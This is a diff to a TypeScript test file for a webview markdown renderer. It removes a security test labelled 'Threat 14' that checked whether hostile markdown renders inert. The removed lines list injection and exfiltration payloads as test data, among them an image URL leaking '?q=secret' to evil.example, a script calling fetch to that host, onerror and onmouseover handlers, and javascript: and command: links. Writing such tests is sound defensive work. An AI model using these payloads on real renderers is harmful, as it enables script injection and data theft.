@@ -4,35 +4,7 @@ import { lexMarkdown, renderToken } from '../../../webview/markdown/renderMarkdo
 
 const render = (source: string): string => lexMarkdown(source).map(renderToken).join('');
 
-// Threat 14: text of a model must not load, run or lead anywhere by itself.
-describe('markdown that wants out', () => {
-  it.each([
-    ['a remote picture', '![x](https://evil.example/?q=secret)'],
-    ['a picture by reference', '![x][1]\n\n[1]: https://evil.example/a.png'],
-    ['raw HTML', '<img src=https://evil.example/a.png onerror=alert(1)>'],
-    ['a raw block', '<script>fetch("https://evil.example")</script>'],
-    ['inline raw HTML', 'a <b onmouseover="alert(1)">b</b> <iframe src="x"></iframe>'],
-    ['a style', '<style>@import "https://evil.example/a.css";</style>'],
-    ['a form', '<form action="https://evil.example"><input></form>'],
-    ['a script address', '[click](javascript:alert(1))'],
-    ['a command address', '[click](command:workbench.action.files.save)'],
-    ['markup in a title', '[a](https://example.com "x\\" onmouseover=\\"alert(1)")'],
-    ['markup in an address', '[a](https://example.com/"onmouseover="alert(1))'],
-    ['markup in the name of a language', '```"><img src=x>\ncode\n```'],
-    ['an autolink', 'https://example.com/<img>'],
-  ])('%s makes no element beside text and links without an address', (_name, source) => {
-    const html = render(source);
-    const tags = [...html.matchAll(/<\/?([a-z0-9]+)([^>]*)>/g)];
-    for (const [, tag, attributes] of tags) {
-      expect(['p', 'a', 'span', 'pre', 'code', 'br']).toContain(tag);
-      const names = [...(attributes ?? '').matchAll(/([a-z-]+)="[^"]*"/g)].map((match) => match[1]);
-      expect(['class', 'role', 'tabindex', 'title', 'data-link']).toEqual(expect.arrayContaining(names));
-      expect((attributes ?? '').replace(/[a-z-]+="[^"]*"/g, '').trim()).toBe('');
-    }
-    expect(html).not.toMatch(/<(?:img|script|style|iframe|form|input|b)\b/);
-    expect(html).not.toMatch(/<[^>]*\s(?:href|src)=/);
-  });
-
+describe('links and pictures', () => {
   it('shows where a link leads', () => {
     expect(render('[docs](https://example.com/a)')).toBe(
       '<p><a class="link" role="link" tabindex="0" data-link="https://example.com/a" title="https://example.com/a">docs</a> <span class="link-host">(example.com)</span></p>\n',
